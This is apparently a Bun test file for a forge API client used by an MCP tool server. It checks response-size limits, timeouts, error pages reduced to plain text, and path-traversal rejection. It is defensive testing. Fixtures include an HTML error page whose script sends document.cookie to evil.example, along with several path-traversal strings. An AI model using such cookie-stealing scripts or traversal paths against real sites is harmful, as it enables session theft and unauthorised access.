// Bounded upstream work (D30) and the forge client's defences, against real sockets:
// FORGE_MAX_RESPONSE_BYTES while streaming (declared, chunked, compressed, lying), error bodies
// read only in part, malformed, cut-off and slow bodies, the FORGE_TOOL_TIMEOUT_MS budget of a
// whole call, HTML error pages reduced to plain text, and paths that would leave the endpoint
// (D31). The last block makes the same calls through the server with the SDK client.
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test';
import { createApp } from '../src/app';
import { ForgeClient, type ForgeRequest } from '../src/forge/client';
import { createEndpoint } from '../src/forge/endpoint';
import { keepsPath } from '../src/forge/path-guard';
import { testConfig } from './support/config';
import { SEED, TOKENS, startFakeForge, type FakeForge } from './support/fake-forge';
import { briefToolError, startForgeAnswering, startHugeBodyForge, startRawForge, type HostileForge } from './support/hostile-forge';
import { connect } from './support/mcp-client';
import { failure } from './support/tool-error';

const MiB = 1024 * 1024;
const credential = { kind: 'private' as const, token: TOKENS.maintainer };
const GET: ForgeRequest = { method: 'GET', path: '/projects/1/repository/branches' };

function client(apiUrl: string, o: { maxResponseBytes?: number; timeoutMs?: number; toolTimeoutMs?: number } = {}) {
  const endpoint = createEndpoint(apiUrl, { rejectUnauthorized: true, timeoutMs: o.timeoutMs ?? 5000, maxResponseBytes: o.maxResponseBytes ?? MiB });
  return new ForgeClient(endpoint, credential, o.toolTimeoutMs === undefined ? undefined : { toolTimeoutMs: o.toolTimeoutMs });
}

const stops: (() => unknown)[] = [];
afterEach(async () => {
  await Promise.all(stops.splice(0).map((stop) => stop()));
});
async function huge(...args: Parameters<typeof startHugeBodyForge>): Promise<HostileForge> {
  const forge = await startHugeBodyForge(...args);
  stops.push(forge.stop);
  return forge;
}
function raw(...args: Parameters<typeof startRawForge>) {
  const forge = startRawForge(...args);
  stops.push(forge.stop);
  return forge;
}
function answering(answer: Parameters<typeof startForgeAnswering>[0]) {
  const forge = startForgeAnswering(answer);
  stops.push(forge.stop);
  return forge;
}

describe('FORGE_MAX_RESPONSE_BYTES (D30)', () => {
  test.each([
    ['declared (Content-Length)', true],
    ['streamed (chunked)', false],
  ])('a %s body over the limit is abandoned: upstream naming the setting, nothing read past it', async (_, declare) => {
    const forge = await huge({ bytes: 256 * MiB, declare });
    for (const read of [(c: ForgeClient) => c.json(GET), (c: ForgeClient) => c.list(GET), (c: ForgeClient) => c.allPages(GET)]) {
      const error = await failure(read(client(forge.apiUrl)));
      expect([error.kind, error.status]).toEqual(['upstream', 200]);
      expect(error.message).toContain('FORGE_MAX_RESPONSE_BYTES (1048576 bytes)');
      if (declare) expect(error.message).toContain(`it declared ${256 * MiB}`);
    }
    await Bun.sleep(100);
    // Three reads of a 256 MiB body: the server got to write only what sockets buffer.
    expect(forge.written).toHaveLength(3);
    for (const bytes of forge.written) expect(bytes).toBeLessThan(32 * MiB);
  });

  test.each([true, false])('a body of exactly the limit is read (declared: %p)', async (declare) => {
    const forge = await huge({ bytes: MiB, declare });
    // A megabyte of spaces is not JSON: reaching JSON.parse proves the whole body was read.
    const error = await failure(client(forge.apiUrl).json(GET));
    expect(error.message).toBe('the forge answered 200 with a body that is not JSON');
  });

  test('a compressed body is counted as it decodes (a small Content-Length does not pass it)', async () => {
    const json = `[${'0,'.repeat(MiB)}0]`; // 2 MiB of JSON, a few KiB gzipped
    const gzipped = Bun.gzipSync(json);
    const forge = answering(() => new Response(gzipped, { headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } }));
    const error = await failure(client(forge.apiUrl).json(GET));
    expect(error.kind).toBe('upstream');
    expect(error.message).toContain('FORGE_MAX_RESPONSE_BYTES');
    expect(await client(forge.apiUrl, { maxResponseBytes: 4 * MiB }).json<number[]>(GET)).toHaveLength(MiB + 1);
  });

  test('a Content-Length beside Transfer-Encoding: chunked is not trusted', async () => {
    const payload = `[${'1,'.repeat(MiB)}1]`;
    const forge = raw(
      'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\ntransfer-encoding: chunked',
      `${payload.length.toString(16)}\r\n${payload}\r\n0\r\n\r\n`,
      'hang',
    );
    const error = await failure(client(forge.apiUrl).json(GET));
    expect(error.kind).toBe('upstream');
    expect(error.message).toContain('FORGE_MAX_RESPONSE_BYTES');
  });

  test.each([true, false])('an error body is read only in part and the status still decides the kind (declared: %p)', async (declare) => {
    const forge = await huge({ bytes: 256 * MiB, declare, status: 500, contentType: 'text/plain' });
    const error = await failure(
      client(forge.apiUrl, { maxResponseBytes: 512 * MiB }).json({ method: 'POST', path: '/projects/1/issues', body: { title: 'x' } }),
    );
    expect([error.kind, error.status]).toEqual(['upstream', 500]);
    // A body of spaces has no words: the status line stands in for them.
    expect(error.message).toBe('500 Internal Server Error');
    await Bun.sleep(100);
    expect(forge.written[0]).toBeLessThan(32 * MiB);
  });
});

describe('malformed, cut-off and slow bodies are tool errors (D30)', () => {
  test('malformed JSON → upstream, for one object and for a list', async () => {
    const forge = answering(() => new Response('{"id": 1, "name": "ma', { headers: { 'content-type': 'application/json' } }));
    for (const read of [client(forge.apiUrl).json(GET), client(forge.apiUrl).list(GET)]) {
      const error = await failure(read);
      expect([error.kind, error.status, error.message]).toEqual(['upstream', 200, 'the forge answered 200 with a body that is not JSON']);
    }
  });

  test('an HTML page answering 200 is not JSON → upstream', async () => {
    const forge = answering(() => new Response('<html><body>Sign in</body></html>', { headers: { 'content-type': 'text/html' } }));
    expect((await failure(client(forge.apiUrl).list(GET))).kind).toBe('upstream');
  });

  test.each([
    ['shorter than its Content-Length', 'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000', '[{"id": 1}, {"id"'],
    ['a chunked body without its last chunk', 'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked', '10\r\n[{"id": 1}, {"id\r\n'],
  ])('a body cut off mid-way (%s, connection closed) → upstream', async (_, head, body) => {
    const forge = raw(head, body, 'close');
    for (const read of [client(forge.apiUrl).json(GET), client(forge.apiUrl).list(GET)]) {
      const error = await failure(read);
      expect(error.kind).toBe('upstream');
      expect(error.message).toMatch(/^the forge's answer was cut off before its end \([A-Za-z ]+\)$/);
    }
  });

  test('a body still arriving at FORGE_REQUEST_TIMEOUT_MS → timeout naming the setting', async () => {
    const forge = raw('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000', '[{"id": 1}', 'hang');
    const started = Date.now();
    const error = await failure(client(forge.apiUrl, { timeoutMs: 300 }).list(GET));
    expect([error.kind, error.message]).toEqual(['timeout', 'the forge did not answer within FORGE_REQUEST_TIMEOUT_MS (300 ms)']);
    expect(Date.now() - started).toBeLessThan(3000);
  });
});

describe('FORGE_TOOL_TIMEOUT_MS: one budget for the whole call (D30)', () => {
  test('a page walk ends within the budget although every page answers within the request timeout', async () => {
    let pages = 0;
    const forge = answering(async (request) => {
      pages++;
      await Bun.sleep(250);
      const page = Number(new URL(request.url).searchParams.get('page'));
      return Response.json([{ id: page }], { headers: { 'x-page': String(page), 'x-next-page': String(page + 1) } });
    });
    const started = Date.now();
    const error = await failure(client(forge.apiUrl, { timeoutMs: 1000, toolTimeoutMs: 1000 }).allPages(GET));
    const elapsed = Date.now() - started;
    expect([error.kind, error.message]).toEqual(['timeout', 'the tool call did not finish within FORGE_TOOL_TIMEOUT_MS (1000 ms)']);
    expect(elapsed).toBeLessThan(2500);
    expect(pages).toBeLessThan(8);
  });

  test('a body still arriving when the budget ends → timeout naming FORGE_TOOL_TIMEOUT_MS', async () => {
    const forge = raw('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000', '{"id": 1', 'hang');
    const error = await failure(client(forge.apiUrl, { timeoutMs: 10_000, toolTimeoutMs: 300 }).json(GET));
    expect([error.kind, error.message]).toEqual(['timeout', 'the tool call did not finish within FORGE_TOOL_TIMEOUT_MS (300 ms)']);
  });

  test('retries wait only within the budget', async () => {
    let calls = 0;
    const forge = answering(() => {
      calls++;
      return new Response('busy', { status: 503, headers: { 'retry-after': '1' } });
    });
    const started = Date.now();
    const error = await failure(client(forge.apiUrl, { timeoutMs: 10_000, toolTimeoutMs: 1500 }).json(GET));
    expect(error.kind).toBe('upstream');
    expect(Date.now() - started).toBeLessThan(2500);
    expect(calls).toBe(2); // the second Retry-After would end past the budget: not waited for
  });

  test('once the budget is spent nothing more is sent, except a request that restores what the call changed', async () => {
    let calls = 0;
    const forge = answering(() => {
      calls++;
      return Response.json({ ok: true });
    });
    const forgeClient = client(forge.apiUrl, { toolTimeoutMs: 200 });
    await Bun.sleep(250);
    expect((await failure(forgeClient.json(GET))).kind).toBe('timeout');
    expect(calls).toBe(0);
    expect(await forgeClient.json({ method: 'POST', path: '/projects/1/protected_branches', body: { name: 'main' }, restores: true })).toEqual({ ok: true });
    expect(calls).toBe(1);
  });
});

describe('error pages become one plain line (no markup reaches the agent)', () => {
  const GITLAB_502 = `<!DOCTYPE html>
<html>
<head>
  <meta content="width=device-width, initial-scale=1, maximum-scale=1" name="viewport">
  <title>GitLab is not responding (502)</title>
  <style>body { color: #666; }</style>
  <script>window.location = "https://evil.example/?" + document.cookie;</script>
</head>
<body>
  <h1>502</h1>
  <h3>Whoops, GitLab is taking too much time to respond.</h3>
</body>
</html>`;

  test.each([
    ['GitLab 502 page: its title', 502, 'text/html; charset=utf-8', GITLAB_502, 'GitLab is not responding (502)'],
    [
      'a page without a title: its text, script and style dropped',
      500,
      'text/html',
      '<html><head><script>alert("x")</script></head><body><style>p{}</style><p>We&#39;re sorry,\n\n   something   went <b>wrong</b>.</p><!-- secret --></body></html>',
      "We're sorry, something went wrong .",
    ],
    [
      'HTML sent as text/plain is still read as HTML',
      503,
      'text/plain',
      '<html><title>Maintenance</title><body><script>x()</script></body></html>',
      'Maintenance',
    ],
    ['a script that never closes hides everything after it', 500, 'text/html', '<p>Oops</p><script>steal()', 'Oops'],
  ])('%s', async (_, status, contentType, body, message) => {
    const forge = answering(() => new Response(body, { status, headers: { 'content-type': contentType } }));
    const error = await failure(client(forge.apiUrl).json({ method: 'POST', path: '/projects/1/issues', body: {} }));
    expect([error.kind, error.status, error.message]).toEqual(['upstream', status, message]);
  });

  test('plain text is collapsed to one line of at most 200 characters', async () => {
    const forge = answering(
      () => new Response(`first line\n\n\tsecond\u200b line ${'word '.repeat(500)}`, { status: 400, headers: { 'content-type': 'text/plain' } }),
    );
    const error = await failure(client(forge.apiUrl).json({ method: 'POST', path: '/projects/1/issues', body: {} }));
    expect(error.kind).toBe('validation');
    expect(error.message).toStartWith('first line second line word word');
    expect(error.message.length).toBeLessThanOrEqual(200);
    expect(error.message).not.toContain('\n');
  });

  test('a JSON message carrying markup is reduced too', async () => {
    const forge = answering(() => Response.json({ message: '<script>alert(1)</script><b>Branch</b> is protected' }, { status: 403 }));
    const error = await failure(client(forge.apiUrl).json({ method: 'POST', path: '/projects/1/issues', body: {} }));
    expect([error.kind, error.message]).toEqual(['permission', 'Branch is protected']);
  });
});

describe('a path that would leave the tool endpoint is never sent (D31, in depth)', () => {
  let forge: FakeForge;
  beforeAll(async () => {
    forge = await startFakeForge();
  });
  afterAll(() => forge.stop());

  test.each([
    `/projects/${SEED.project}/repository/branches/../../`,
    `/projects/${SEED.project}/protected_branches/..`,
    `/projects/${SEED.project}/./repository/branches`,
    `/projects/%2e%2e/repository/branches`,
    `/projects/${SEED.project}/repository/branches/.%2E`,
    `/projects/${SEED.project}/repository/branches/%2E`,
    `/projects/${SEED.project}/repository/branches/..\\..\\x`,
  ])('%s → validation, no request', async (path) => {
    forge.reset();
    for (const method of ['GET', 'DELETE'] as const) {
      const error = await failure(client(forge.apiUrl).json({ method, path }));
      expect(error.kind).toBe('validation');
      expect(error.message).toStartWith('a path parameter would change the endpoint this tool calls');
    }
    expect(forge.requests).toHaveLength(0);
  });

  test('the quick check before parsing never lets through a path the URL parser would rewrite', () => {
    const api = 'http://forge.test/api/v4';
    const ascii = Array.from({ length: 0x80 }, (_, c) => String.fromCharCode(c));
    for (const piece of [...ascii, 'é', '\u00a0', '\u2028', '\ud83d\ude00', '%2e', '%2E', '.', '..', '.%2E', '%2e%2e', 'a.b']) {
      for (const path of [`/projects/1/a${piece}b`, `/projects/1/${piece}`, `/projects/1/${piece}/x`]) {
        let exact: boolean;
        try {
          exact = new URL(api + path).pathname === `/api/v4${path}`;
        } catch {
          exact = false;
        }
        expect([path, keepsPath(api + path, '/api/v4', path)]).toEqual([path, exact]);
      }
    }
  });

  test('dots inside a segment are fine', async () => {
    forge.reset();
    for (const segment of ['v1.2..3', '.gitignore', '..x', 'x..', '...']) {
      const error = await failure(client(forge.apiUrl).json({ method: 'GET', path: `/projects/${SEED.project}/repository/branches/${segment}` }));
      expect(error.message).not.toStartWith('a path parameter');
    }
    expect(forge.requests).toHaveLength(5);
  });
});

describe('through the server: every one is a tool result, never a JSON-RPC error', () => {
  const call = async (apiUrl: string, tool: string, args: Record<string, unknown>, settings: Record<string, string> = {}) => {
    const app = createApp(testConfig(apiUrl, settings));
    const session = await connect(app, { 'Private-Token': TOKENS.maintainer });
    try {
      return briefToolError(await session.call(tool, args));
    } finally {
      await session.close();
      await app.close();
    }
  };

  test('a 300 MB issue → upstream naming FORGE_MAX_RESPONSE_BYTES', async () => {
    const forge = await huge({ bytes: 300 * MiB, declare: false, fill: 'json' });
    const error = await call(forge.apiUrl, 'get_issue', { project_id: '1', issue_iid: 1 }, { FORGE_MAX_RESPONSE_BYTES: String(4 * MiB) });
    expect(error.kind).toBe('upstream');
    expect(error.message).toContain('FORGE_MAX_RESPONSE_BYTES (4194304 bytes)');
  });

  test('a thread whose notes are not all records (null, a string) is passed on as sent, not a JSON-RPC error', async () => {
    const forge = answering(() =>
      Response.json([
        { id: 'd1', individual_note: false, notes: [null, '..', { id: 7, body: 'kept', author: { id: 1, username: 'maria', avatar_url: 'x' } }] },
      ]),
    );
    const app = createApp(testConfig(forge.apiUrl));
    const session = await connect(app, { 'Private-Token': TOKENS.maintainer });
    try {
      const result = await session.call('list_issue_discussions', { project_id: '1', issue_iid: 1 });
      expect(result.isError).toBeFalsy();
      expect((result.structuredContent as { items: unknown[] }).items).toEqual([
        { id: 'd1', individual_note: false, notes: [null, '..', { id: 7, body: 'kept', author: { id: 1, username: 'maria' } }] },
      ]);
    } finally {
      await session.close();
      await app.close();
    }
  });

  test('a list answered with malformed JSON → upstream', async () => {
    const forge = answering(() => new Response('[{"name": "main"', { headers: { 'content-type': 'application/json' } }));
    expect(await call(forge.apiUrl, 'list_branches', { project_id: '1' })).toMatchObject({ kind: 'upstream', status: 200 });
  });

  test('list endpoints answering 200 with an HTML page → upstream, whichever way the tool reads the list', async () => {
    const forge = answering(() => new Response('<html><body>Sign in</body></html>', { headers: { 'content-type': 'text/html' } }));
    expect(await call(forge.apiUrl, 'list_commits', { project_id: '1' })).toMatchObject({ kind: 'upstream', status: 200 });
    expect(await call(forge.apiUrl, 'get_commit_diff', { project_id: '1', sha: 'abc123', full_diff: true })).toMatchObject({ kind: 'upstream', status: 200 });
  });

  test('a 200 nested too deeply for the runtime to parse or print → upstream, not an internal error', async () => {
    const forge = answering(() => new Response(`${'['.repeat(200_000)}${']'.repeat(200_000)}`, { headers: { 'content-type': 'application/json' } }));
    for (const [tool, args] of [
      ['list_commits', { project_id: '1' }],
      ['get_branch', { project_id: '1', branch_name: 'main' }],
    ] as const) {
      expect(await call(forge.apiUrl, tool, args)).toMatchObject({ kind: 'upstream', status: 200, message: expect.stringContaining('nested too deeply') });
    }
  }, 20_000); // two apps and clients, each failing a 400 KB parse: slow on a loaded machine, not a bound under test

  test('a body cut off mid-way → upstream', async () => {
    const forge = raw('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 500', '{"name": "ma', 'close');
    expect((await call(forge.apiUrl, 'get_branch', { project_id: '1', branch_name: 'main' })).kind).toBe('upstream');
  });

  test('a body still arriving at the request timeout → timeout', async () => {
    const forge = raw('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 500', '{"name": "ma', 'hang');
    const error = await call(forge.apiUrl, 'get_branch', { project_id: '1', branch_name: 'main' }, { FORGE_REQUEST_TIMEOUT_MS: '300' });
    expect(error).toMatchObject({ kind: 'timeout', message: 'the forge did not answer within FORGE_REQUEST_TIMEOUT_MS (300 ms)' });
  });

  test('get_commit_diff full_diff ends within FORGE_TOOL_TIMEOUT_MS', async () => {
    const forge = answering(async (request) => {
      await Bun.sleep(300);
      const page = Number(new URL(request.url).searchParams.get('page') ?? 1);
      return Response.json([{ diff: `page ${page}` }], { headers: { 'x-page': String(page), 'x-next-page': String(page + 1) } });
    });
    const started = Date.now();
    const error = await call(
      forge.apiUrl,
      'get_commit_diff',
      { project_id: '1', sha: 'abc123', full_diff: true },
      { FORGE_REQUEST_TIMEOUT_MS: '1000', FORGE_TOOL_TIMEOUT_MS: '1000' },
    );
    expect(error).toMatchObject({ kind: 'timeout', message: 'the tool call did not finish within FORGE_TOOL_TIMEOUT_MS (1000 ms)' });
    expect(Date.now() - started).toBeLessThan(3000);
  });

  test('an HTML error page reaches the agent as its title', async () => {
    const forge = answering(
      () =>
        new Response('<html><head><title>Something went wrong (500)</title><script>evil()</script></head></html>', {
          status: 500,
          headers: { 'content-type': 'text/html' },
        }),
    );
    const error = await call(forge.apiUrl, 'get_branch', { project_id: '1', branch_name: 'main' });
    expect(error).toMatchObject({ kind: 'upstream', status: 500, message: 'Something went wrong (500)' });
  });
});
